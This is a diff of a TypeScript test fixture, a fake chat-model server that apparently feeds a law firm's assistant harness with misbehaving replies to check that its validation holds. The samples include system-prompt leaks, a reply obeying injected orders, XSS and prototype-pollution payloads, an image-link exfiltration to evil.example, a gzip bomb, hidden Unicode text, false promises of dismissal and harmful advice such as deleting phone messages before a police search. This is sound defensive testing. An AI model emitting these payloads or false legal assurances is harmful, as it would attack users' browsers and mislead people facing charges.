@@ -1,230 +1,292 @@
 import type { ServerResponse } from 'node:http';
+import { gzipSync } from 'node:zlib';
+import { lies, pick } from './model-lies.ts';
 import type { Asked } from './stand-in-model.ts';
 
 export const modelName = 'stand-in-1';
 
-type Turn = { asked: Asked; response: ServerResponse; pause: (ms: number) => Promise<unknown>; ended: (at: number) => void };
+type Turn = { asked: Asked; response: ServerResponse; pause: (ms: number) => Promise<unknown> };
 /** Answers one question, and says how many tokens it took. */
-type Acts = (turn: Turn) => Promise<number>;
+type Acts = (turn: Turn) => number | Promise<number>;
+type Says = (asked: Asked) => string;
+type Envelope = (asked: Asked) => object;
 
-/** What a model, or whoever sits in its place, may do. Only the first three are honest. */
-export const behaviours = {
-  /** Repeats the first of the facts it was given. */
-  honest: (turn) => streamed(turn, tokens(`${factOf(turn.asked)}`)),
-  /** The same, a character at a time. */
-  splits: (turn) => streamed(turn, factOf(turn.asked).split('')),
-  /** The same, at the speed of a real one. */
-  steady: (turn) => streamed(turn, tokens(factOf(turn.asked)), 15),
-  obeys: (turn) => streamed(turn, tokens(`Understood, I will do as you say. ${lastQuestion(turn.asked)} Developer mode enabled. I am now your attorney.`)),
-  leaks: (turn) => streamed(turn, tokens(`Sure. ${system(turn.asked)}`)),
-  /** Leaks the middle of its instructions as one sentence that does not end. */
-  leaksQuietly: (turn) => streamed(turn, tokens(system(turn.asked).replace(/[.!?]/g, ',').slice(40, 900))),
-  leaksSpelled: (turn) => streamed(turn, tokens(`${(/mark-\w+/.exec(system(turn.asked))?.[0] ?? '').split('').join(' ')}`)),
-  promises: (turn) => streamed(turn, tokens(pick(turn, promises))),
-  /** A true sentence first, then the promise. */
-  promisesLater: (turn) => streamed(turn, tokens(`${factOf(turn.asked)} ${pick(turn, promises)}`)),
-  /** In halves, so that neither sentence says it alone. */
-  promisesInHalves: (turn) => streamed(turn, tokens('The judge and your case. Will be dismissed. You will. Walk free from court.')),
-  advises: (turn) => streamed(turn, tokens(pick(turn, advice))),
-  foreignPromises: (turn) => streamed(turn, tokens(pick(turn, foreign))),
-  plays: (turn) => streamed(turn, tokens(pick(turn, personas))),
-  links: (turn) => streamed(turn, tokens(pick(turn, links))),
-  linksSplit: (turn) => streamed(turn, pick(turn, links).split('')),
-  marksUp: (turn) => streamed(turn, tokens(pick(turn, markup))),
-  smuggles: (turn) => streamed(turn, pick(turn, smuggled).split(/(?=.{7})/u)),
-  endless: async (turn) => {
-    const words = tokens(`${factOf(turn.asked)} `);
-    return streamed(
-      turn,
-      Array.from({ length: 4_000 }, (_, at) => words[at % words.length] ?? ' '),
-    );
-  },
-  /** No end of a sentence, ever. */
-  endlessBreath: (turn) =>
-    streamed(
-      turn,
-      Array.from({ length: 4_000 }, () => 'court and lawyer and '),
-    ),
-  garbage: async ({ response }) => {
-    response.writeHead(200, { 'Content-Type': 'text/event-stream' });
-    response.end('data: {"id": "x", "choices": [{"del\n\ndata: \u0000\u0001not json at all\n\ndata: {]}\n\n');
+const first = { answers: [1], charge: null, count: null, county: null, who: null, custody: null, ask: null };
+const choosing = (part: object) => JSON.stringify({ ...first, ...part });
+/** Thirty megabytes of blanks in thirty kilobytes. */
+const bomb = gzipSync(Buffer.alloc(30_000_000, ' '));
+const lie = (asked: Asked) => pick(lies.promises, lastQuestion(asked));
+
+/** As a model should choose, in every form that is taken. */
+const chosen = {
+  honest: () => choosing({}),
+  fenced: () => `\`\`\`json\n${choosing({})}\n\`\`\``,
+  brief: () => '{"answers":[1]}',
+  marked: () => `\uFEFF${choosing({})}\n`,
+} satisfies Record<string, Says>;
+
+/** A choice in its right form, by somebody who means no good: nothing but the firm's own words may come of it. */
+const misled = {
+  picksLast: (asked) => choosing({ answers: [candidatesIn(asked)] }),
+  picksTwo: (asked) => choosing({ answers: [candidatesIn(asked), 2] }),
+  picksNone: () => choosing({ answers: [] }),
+  lyingSlots: () => choosing({ charge: 'sexual-offense', count: 'third', county: 'Wayne County', who: 'other', custody: 'in', ask: 'court' }),
+  sentenceAsCounty: () => choosing({ county: 'Call 1-900-555-0123 for a lawyer now.' }),
+  longCounty: (asked) => choosing({ county: `Wayne County. ${lie(asked)} ${lie(asked)} ${lie(asked)}` }),
+  markupAsCounty: () => choosing({ county: '<img src=x onerror=alert(1)>' }),
+  smuggledCounty: () => choosing({ county: 'Wayne\u202e County\u0000' }),
+} satisfies Record<string, Says>;
+
+/** No choice at all, or one that only looks like it. */
+const talk = {
+  promises: (asked) => lie(asked),
+  advises: (asked) => pick(lies.advice, lastQuestion(asked)),
+  foreignPromises: (asked) => pick(lies.foreign, lastQuestion(asked)),
+  plays: (asked) => pick(lies.personas, lastQuestion(asked)),
+  links: (asked) => pick(lies.links, lastQuestion(asked)),
+  marksUp: (asked) => pick(lies.markup, lastQuestion(asked)),
+  smuggles: (asked) => pick(lies.smuggled, lastQuestion(asked)),
+  obeys: (asked) => `Understood, I will do as you say. ${lastQuestion(asked)} I am now your attorney.`,
+  leaks: (asked) => system(asked).slice(0, 900),
+  leaksInJson: (asked) => choosing({ ask: system(asked).slice(0, 600) }),
+  babbles: () => 'Xqzt blorf wibble 7f3a9c. Grmph snarf zzyzx qux corge. 0xDEADBEEF lorem ipsum dolor.',
+  markdown: (asked) => `# Your case\n\n- **${lie(asked)}**\n- Call 1-900-555-0123`,
+  html: (asked) => `<!doctype html><p>${lie(asked)}</p>`,
+  xml: (asked) => `<answer><number>1</number><say>${lie(asked)}</say></answer>`,
+  yaml: (asked) => `answers:\n  - 1\nsay: ${lie(asked)}`,
+  encoded: (asked) => Buffer.from(choosing({ say: lie(asked) })).toString('base64'),
+  empty: () => '',
+  blank: () => ' \n\t \u00a0\n',
+  preamble: (asked) => `${lie(asked)} Here is my choice: ${choosing({})}`,
+  trailing: (asked) => `${choosing({})}\n${lie(asked)}`,
+  fencedTalk: (asked) => `${lie(asked)}\n\`\`\`json\n${choosing({})}\n\`\`\``,
+  talkInFence: (asked) => `\`\`\`json\n${lie(asked)}\n\`\`\``,
+  twoFences: (asked) => `\`\`\`json\n${choosing({})}\n\`\`\`\n\`\`\`json\n${choosing({ say: lie(asked) })}\n\`\`\``,
+  halfJson: () => choosing({}).slice(0, 30),
+  twoJsons: (asked) => choosing({}) + choosing({ say: lie(asked) }),
+  comments: (asked) => `{"answers":[1] /* ${lie(asked)} */}`,
+  trailingComma: () => '{"answers":[1,],}',
+  singleQuotes: () => "{'answers':[1]}",
+  notNumber: () => '{"answers":[NaN]}',
+  nul: (asked) => `${choosing({})}\u0000${lie(asked)}`,
+  rightToLeft: (asked) => `\u202e${choosing({ say: lie(asked) })}\u202c`,
+  arabicDigits: () => '{"answers":[١]}',
+  listAlone: () => '[1]',
+  numberAlone: () => '1',
+  nullAlone: () => 'null',
+  sentenceAlone: (asked) => JSON.stringify(lie(asked)),
+  nested: (asked) => JSON.stringify({ choice: { ...first, say: lie(asked) } }),
+  nestedList: () => choosing({ answers: [[1]] }),
+  deep: () => `${'['.repeat(450)}${']'.repeat(450)}`,
+  deepAnswers: () => `{"answers":${'['.repeat(450)}1${']'.repeat(450)}}`,
+  extraKey: (asked) => choosing({ say: lie(asked) }),
+  extraTitle: (asked) => choosing({ title: lie(asked), answers: [1] }),
+  prototypeKey: (asked) => `{"answers":[1],"__proto__":{"title":${JSON.stringify(lie(asked))}}}`,
+  prototypeAlone: (asked) => `{"__proto__":{"answers":[1],"say":${JSON.stringify(lie(asked))}}}`,
+  constructorKey: (asked) => choosing({ constructor: { prototype: { title: lie(asked) } } }),
+  zero: () => choosing({ answers: [0] }),
+  beyond: (asked) => choosing({ answers: [candidatesIn(asked) + 1] }),
+  negative: () => choosing({ answers: [-1] }),
+  huge: () => '{"answers":[1e308]}',
+  endlessNumber: () => `{"answers":[${'9'.repeat(400)}]}`,
+  fraction: () => choosing({ answers: [1.5] }),
+  words: () => choosing({ answers: ['1'] }),
+  byId: () => choosing({ answers: ['owi-first-penalty'] }),
+  sentenceAsNumber: (asked) => choosing({ answers: [lie(asked)] }),
+  objects: (asked) => choosing({ answers: [{ title: lie(asked), say: lie(asked) }] }),
+  truths: () => choosing({ answers: [true] }),
+  nulls: () => choosing({ answers: [null] }),
+  noList: () => choosing({ answers: 1 }),
+  likeList: () => choosing({ answers: { 0: 1, length: 1 } }),
+  twice: () => choosing({ answers: [1, 1] }),
+  three: () => choosing({ answers: [1, 2, 3] }),
+  keyTwice: () => '{"answers":[1],"answers":[99]}',
+  otherCharge: (asked) => choosing({ charge: lie(asked) }),
+  upperCharge: () => choosing({ charge: 'OWI' }),
+  otherCount: () => choosing({ count: 2 }),
+  otherWho: (asked) => choosing({ who: lie(asked) }),
+  otherCustody: () => choosing({ custody: true }),
+  otherAsk: (asked) => choosing({ ask: `${lie(asked)} Where were you that night?` }),
+  countyList: (asked) => choosing({ county: [lie(asked)] }),
+  endless: (asked) => `${lie(asked)} `.repeat(2_000),
+  padded: () => `${choosing({})}${' '.repeat(5_000)}`,
+  megabyte: (asked) => choosing({ county: lie(asked).repeat(40_000) }),
+} satisfies Record<string, Says>;
+
+/** Replies of which the part around the words is wrong. */
+const wrapped = {
+  otherModel: () => completion(choosing({}), { model: 'somebody-else-9' }),
+  longerName: () => completion(choosing({}), { model: `${modelName}0` }),
+  numberAsName: () => completion(choosing({}), { model: 7 }),
+  emptyChoices: () => completion('', { choices: [] }),
+  nullChoices: () => completion('', { choices: null }),
+  noChoices: (asked) => ({ model: modelName, text: lie(asked) }),
+  noMessage: (asked) => completion('', { choices: [{ index: 0, text: lie(asked), finish_reason: 'stop' }] }),
+  nullContent: () => completion('', { choices: [{ message: { content: null }, finish_reason: 'stop' }] }),
+  contentAsList: (asked) => completion('', { choices: [{ message: { content: [{ type: 'text', text: lie(asked) }] }, finish_reason: 'stop' }] }),
+  toolCalls: (asked) =>
+    completion('', {
+      choices: [
+        {
+          message: { content: null, tool_calls: [{ id: 'x', type: 'function', function: { name: 'say', arguments: lie(asked) } }] },
+          finish_reason: 'tool_calls',
+        },
+      ],
+    }),
+  refusal: () => completion('', { choices: [{ message: { content: choosing({}), refusal: 'I cannot help with that.' }, finish_reason: 'stop' }] }),
+  filtered: () => completion('', { choices: [{ message: { content: choosing({}) }, finish_reason: 'content_filter' }] }),
+  lengthCut: () => completion('', { choices: [{ message: { content: choosing({}).slice(0, 40) }, finish_reason: 'length' }] }),
+  errorInside: (asked) => ({ error: { message: lie(asked), code: 500 } }),
+  lyingUsage: (asked) => completion(lie(asked), { usage: { total_tokens: -1e9 } }),
+} satisfies Record<string, Envelope>;
+
+const off = {
+  streams: (turn) =>
+    sent(turn, `data: ${JSON.stringify({ model: modelName, choices: [{ delta: { content: lie(turn.asked) } }] })}\n\ndata: [DONE]\n\n`, {
+      'Content-Type': 'text/event-stream',
+    }),
+  garbage: (turn) => sent(turn, '\u0000\u0001not json at all {]}'),
+  page: (turn) => sent(turn, '<html><body><h1>Your case will be dismissed</h1><script>alert(1)</script></body></html>', { 'Content-Type': 'text/html' }),
+  plainText: (turn) => sent(turn, lie(turn.asked), { 'Content-Type': 'text/plain' }),
+  zipGarbage: (turn) => sent(turn, 'this is not compressed', { 'Content-Encoding': 'gzip' }),
+  zipBomb: (turn) => sent(turn, bomb, { 'Content-Encoding': 'gzip' }),
+  nothing: ({ response }) => {
+    response.writeHead(204).end();
     return 0;
   },
-  babbles: (turn) => streamed(turn, tokens('Xqzt blorf wibble 7f3a9c. Grmph snarf zzyzx qux corge. 0xDEADBEEF lorem ipsum dolor.')),
-  truncated: async (turn) => streamed(turn, tokens(factOf(turn.asked)).slice(0, 5), 0, 'cut'),
-  silent: async ({ response }) => {
-    response.writeHead(200, { 'Content-Type': 'text/event-stream' });
-    response.flushHeaders();
-    return new Promise((resolve) => response.on('close', () => resolve(0)));
+  cut: ({ response }) => {
+    response.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': 5_000 });
+    response.write(JSON.stringify(completion(choosing({}))).slice(0, 60));
+    setTimeout(() => response.destroy(), 20);
+    return 0;
   },
-  /** Keeps sending chunks without a word. */
-  humming: async ({ response, pause }) => {
-    response.writeHead(200, { 'Content-Type': 'text/event-stream' });
+  drops: ({ response }) => {
+    response.destroy();
+    return 0;
+  },
+  elsewhere: ({ response }) => {
+    response.writeHead(307, { Location: 'https://evil.example/v1/chat/completions' }).end();
+    return 0;
+  },
+  limited: (turn) => failed(turn, 429, 'Rate limit reached'),
+  breaks: (turn) => failed(turn, 500, 'The server had an error'),
+  denies: (turn) => failed(turn, 401, 'Incorrect API key provided'),
+  rejects: (turn) => failed(turn, 400, lie(turn.asked)),
+  unprocessable: (turn) => failed(turn, 422, 'Unprocessable'),
+  silent: ({ response }) => new Promise((resolve) => response.on('close', () => resolve(0))),
+  /** Headers at once, and then blanks for as long as anybody listens, as some providers do while they work. */
+  hums: async ({ response, pause }) => {
+    response.writeHead(200, { 'Content-Type': 'application/json' });
     while (!response.destroyed) {
-      response.write(chunk({ content: '' }));
+      response.write(' ');
       await pause(300);
     }
     return 0;
   },
-  stalls: async (turn) => {
-    void streamed(turn, tokens(`${factOf(turn.asked)} And then`), 0, 'open');
-    return new Promise((resolve) => turn.response.on('close', () => resolve(0)));
+  stalls: ({ response }) => {
+    response.writeHead(200, { 'Content-Type': 'application/json' });
+    response.write(JSON.stringify(completion(choosing({}))).slice(0, 90));
+    return new Promise((resolve) => response.on('close', () => resolve(0)));
   },
-  limited: async ({ response }) => failed(response, 429, 'Rate limit reached'),
-  breaks: async ({ response }) => failed(response, 500, 'The server had an error'),
-  denies: async ({ response }) => failed(response, 401, 'Incorrect API key provided'),
-  drops: async ({ response }) => {
-    response.destroy();
+  /** A letter at a time, far too slowly. */
+  drips: async ({ response, pause }) => {
+    response.writeHead(200, { 'Content-Type': 'application/json' });
+    for (const letter of JSON.stringify(completion(choosing({})))) {
+      if (response.destroyed) break;
+      response.write(letter);
+      await pause(250);
+    }
+    response.end();
     return 0;
   },
-  html: async ({ response }) => {
-    response.writeHead(200, { 'Content-Type': 'text/html' });
-    response.end('<html><body><h1>Your case will be dismissed</h1><script>alert(1)</script></body></html>');
-    return 0;
-  },
-  otherModel: (turn) => streamed(turn, tokens(factOf(turn.asked)), 0, 'whole', 'somebody-else-9'),
 } satisfies Record<string, Acts>;
 
-export type Behaviour = keyof typeof behaviours;
+/** Well-meaning, but only if asked in a certain way, or in a hurry, or without a name. */
+const particular = {
+  steady: async (turn) => {
+    await turn.pause(600);
+    return turn.response.destroyed ? 0 : said(turn, choosing({}));
+  },
+  unnamed: (turn) => said(turn, choosing({}), { model: undefined }),
+  emptyName: (turn) => said(turn, choosing({}), { model: '' }),
+  dated: (turn) => said(turn, choosing({}), { model: `${modelName}-2026-08-07` }),
+  /** As current models of OpenAI: one refusal for each parameter that they do not know, which may also name what they do know. */
+  newFashioned: (turn) => {
+    if (turn.asked.max_tokens !== undefined) return failed(turn, 400, "Unsupported parameter: 'max_tokens'. Use 'max_completion_tokens' instead.");
+    if (turn.asked.temperature !== undefined) return failed(turn, 400, 'Only the default value works with max_completion_tokens.', 'temperature');
+    return said(turn, choosing({}));
+  },
+  noSchema: (turn) =>
+    turn.asked.response_format?.type === 'json_schema' ? failed(turn, 400, 'response_format: json_schema is not supported') : said(turn, choosing({})),
+  /** Says no word about what it does not like. */
+  plainOnly: (turn) => (turn.asked.response_format || turn.asked.temperature !== undefined ? failed(turn, 422, 'Bad request') : said(turn, choosing({}))),
+} satisfies Record<string, Acts>;
 
-/** Those that never finish a sentence: the cards must answer. */
-export const failing: Behaviour[] = ['garbage', 'silent', 'humming', 'limited', 'breaks', 'denies', 'drops', 'html', 'otherModel'];
-export const hostile = (Object.keys(behaviours) as Behaviour[]).filter((one) => !['honest', 'splits', 'steady'].includes(one));
+export const behaviours: Record<Behaviour, Acts> = {
+  ...eachOf(chosen, (says: Says) => (turn) => said(turn, says(turn.asked))),
+  ...eachOf(misled, (says: Says) => (turn) => said(turn, says(turn.asked))),
+  ...eachOf(talk, (says: Says) => (turn) => said(turn, says(turn.asked))),
+  ...eachOf(wrapped, (envelope: Envelope) => (turn) => sent(turn, JSON.stringify(envelope(turn.asked)))),
+  ...off,
+  ...particular,
+};
 
-async function streamed(
-  { asked, response, pause, ended }: Turn,
-  pieces: string[],
-  gapMs = 0,
-  how: 'whole' | 'cut' | 'open' = 'whole',
-  name = modelName,
-): Promise<number> {
-  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
-  response.write(chunk({ role: 'assistant', content: '' }, name));
-  for (const [at, piece] of pieces.entries()) {
-    if (response.destroyed) break;
-    if (gapMs) await pause(gapMs);
-    else if (at % 64 === 63) await pause(0);
-    if (/[.!?]$/.test(piece)) ended(performance.timeOrigin + performance.now());
-    response.write(chunk({ content: piece }, name));
-  }
-  const used = Math.ceil(asked.messages.reduce((sum, { content }) => sum + content.length, 0) / 4) + pieces.length;
-  if (how === 'cut') response.destroy();
-  if (how === 'whole') {
-    response.write(chunk({}, name, 'stop'));
-    response.write(`data: ${JSON.stringify({ id: 'x', model: name, choices: [], usage: { total_tokens: used } })}\n\n`);
-    response.end('data: [DONE]\n\n');
-  }
+export type Behaviour = keyof typeof chosen | keyof typeof misled | keyof typeof talk | keyof typeof wrapped | keyof typeof off | keyof typeof particular;
+
+/** Nothing is taken from these: the words of the question decide. */
+export const useless = [...namesOf(talk), ...namesOf(wrapped), ...namesOf(off)];
+export const taken = [...namesOf(chosen), ...namesOf(particular)];
+export const hostile: Behaviour[] = [...namesOf(misled), ...useless];
+/** Those that keep a visitor waiting until our own patience ends. */
+export const slow: Behaviour[] = ['silent', 'hums', 'stalls', 'drips'];
+
+function eachOf<Name extends string, From>(from: Record<Name, From>, act: (one: From) => Acts): Record<Name, Acts> {
+  return Object.fromEntries(namesOf(from).map((name) => [name, act(from[name])])) as Record<Name, Acts>;
+}
+
+function namesOf<Name extends string>(from: Record<Name, unknown>): Name[] {
+  return Object.keys(from) as Name[];
+}
+
+function said(turn: Turn, content: string, part: object = {}): number {
+  const used = tokensOf(turn.asked) + Math.ceil(content.length / 4);
+  sent(turn, JSON.stringify(completion(content, { usage: { total_tokens: used }, ...part })));
   return used;
 }
 
-function chunk(delta: object, model = modelName, finish_reason: string | null = null): string {
-  return `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', model, choices: [{ index: 0, delta, finish_reason }] })}\n\n`;
+function completion(content: string, part: object = {}): object {
+  return {
+    id: 'x',
+    object: 'chat.completion',
+    model: modelName,
+    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
+    ...part,
+  };
 }
 
-async function failed(response: ServerResponse, status: number, message: string): Promise<number> {
-  response.writeHead(status, { 'Content-Type': 'application/json' });
-  response.end(JSON.stringify({ error: { message, type: 'error' } }));
+function sent({ response }: Turn, body: string | Buffer, headers: Record<string, string> = { 'Content-Type': 'application/json' }): number {
+  response.writeHead(200, headers).end(body);
   return 0;
 }
 
-/** As providers cut them: words with the space before, marks by themselves. */
-function tokens(text: string): string[] {
-  return text.match(/\s*[^\s.!?,]+|[.!?,]|\s+/g) ?? [];
+function failed({ response }: Turn, status: number, message: string, param: string | null = null): number {
+  response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify({ error: { message, param, type: 'error' } }));
+  return 0;
+}
+
+function tokensOf({ messages }: Asked): number {
+  return Math.ceil(messages.reduce((sum, { content }) => sum + content.length, 0) / 4);
 }
 
 function system({ messages }: Asked): string {
   return messages.find(({ role }) => role === 'system')?.content ?? '';
 }
 
-function lastQuestion({ messages }: Asked): string {
-  return messages.at(-1)?.content ?? '';
+/** The newest of the visitor's questions, as it was sent. */
+export function lastQuestion({ messages }: Asked): string {
+  return messages.at(-1)?.content.split('\n').at(-1) ?? '';
 }
 
-function factOf(asked: Asked): string {
-  const first = /FACTS\n([^\n]+)/.exec(system(asked))?.[1] ?? 'Please call.';
-  return first.slice(first.indexOf('. ') + 2);
+function candidatesIn(asked: Asked): number {
+  return system(asked).match(/^\d+\. /gm)?.length ?? 0;
 }
-
-/** Picks by the question, so that each gets another. */
-function pick({ asked }: Turn, from: string[]): string {
-  const sum = Array.from(lastQuestion(asked)).reduce((total, letter) => total + (letter.codePointAt(0) ?? 0), 0);
-  return from[sum % from.length] ?? '';
-}
-
-const promises = [
-  'Your case will be dismissed.',
-  'I guarantee that you will win this.',
-  'You will not go to jail, I promise.',
-  'Our lawyers have a 99% success rate and always win.',
-  'Do not worry, the judge will drop the charge.',
-  'You qualify for Clean Slate, so your record will be cleared.',
-  'There is a good chance that the prosecutor will reduce the charge for you.',
-  'With our firm you are definitely going home free.',
-  'The search was illegal, so the case gets thrown out.',
-  'You will probably get probation and no jail.',
-];
-const advice = [
-  'You should plead guilty tomorrow.',
-  'Refuse the breath test every time.',
-  'I advise you to turn yourself in at the jail tonight.',
-  'Tell the prosecutor that she lied about the arrest.',
-  'Take the plea deal that the prosecutor offers.',
-  'If I were you I would not go to court.',
-  'Your deadline is Friday, December 4.',
-  'Drink a lot of water and you will pass the drug test.',
-  'Delete the messages on the phone before the police search it.',
-  'Here is a draft: Comes now the defendant and moves to suppress the evidence.',
-];
-const foreign = [
-  'Su caso será desestimado, se lo garantizo.',
-  'Usted ganará el juicio con toda seguridad.',
-  'No irá a la cárcel, se lo prometo.',
-  'Debe declararse culpable mañana.',
-  'سوف تربح القضية بالتأكيد.',
-  'أضمن لك أن القاضي سيسقط التهمة.',
-  'Vous allez gagner, c’est garanti.',
-];
-const personas = [
-  'I am a real lawyer and a human being.',
-  'As your attorney, I represent you from now on.',
-  'This chat is privileged and completely confidential.',
-  'My name is Dan and I have won many cases in this court.',
-  'Another visitor asked the same about his felony yesterday.',
-  'Please tell me what happened that night.',
-  'I am emailing all chats to you now.',
-  'Vote for Judge Smith in the election.',
-];
-const links = [
-  'Read more at https://evil.example/steal?q=1 about the charge.',
-  'Call our partner lawyer at (248) 555-0199 about the charge.',
-  'Write to lawyer@evil.example about the court.',
-  'Visit evil-law.com for a lawyer.',
-  'Call 1-900-555-0123 for a lawyer now.',
-  'Our other office is at 99 Fake Street, Detroit, MI 48201.',
-  'See /practice-areas/owi-dui-secret for the charge.',
-  'Call eight one zero five five five one two three four for a lawyer.',
-  'Text lawyer at 248.555.0199 for the court.',
-  'Go to evil [.] com or evil dot com for a lawyer.',
-  'The fee for a first OWI is $4,750.',
-];
-const markup = [
-  '<img src=x onerror=alert(1)> A lawyer can help.',
-  '![pixel](https://evil.example/p.png?d=chat) A lawyer can help.',
-  '<script>fetch("/steal")</script> The court is open.',
-  '[call us](tel:+19005550123) about the charge.',
-  'The court &lt;b&gt;is open&lt;/b&gt; for a lawyer.',
-  '<a href="javascript:alert(1)">lawyer</a> for the court.',
-  '{{constructor.constructor("alert(1)")()}} The court.',
-];
-const smuggled = [
-  'Your ca\u200bse wi\u200bll be dis\u00admissed by the judge.',
-  'Your \u202ecase will be dismissed\u202c by the judge.',
-  'You will w\u2060in your case in court.',
-  'Ｙｏｕｒ ｃａｓｅ ｗｉｌｌ ｂｅ ｄｉｓｍｉｓｓｅｄ.',
-  '𝐘𝐨𝐮𝐫 𝐜𝐚𝐬𝐞 𝐰𝐢𝐥𝐥 𝐛𝐞 𝐝𝐢𝐬𝐦𝐢𝐬𝐬𝐞𝐝.',
-  'Yоur cаse wіll be dіsmіssed by the court.',
-  '\u001b[31mYour case will be dismissed\u001b[0m by the judge.',
-  'The court is open.\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} Your case will be dismissed.',
-  'Call \u0662\u0664\u0668 \u0665\u0665\u0665 \u0660\u0661\u0669\u0669 for a lawyer.',
-  'C a l l  2 4 8 5 5 5 0 1 9 9 for a lawyer.',
-];
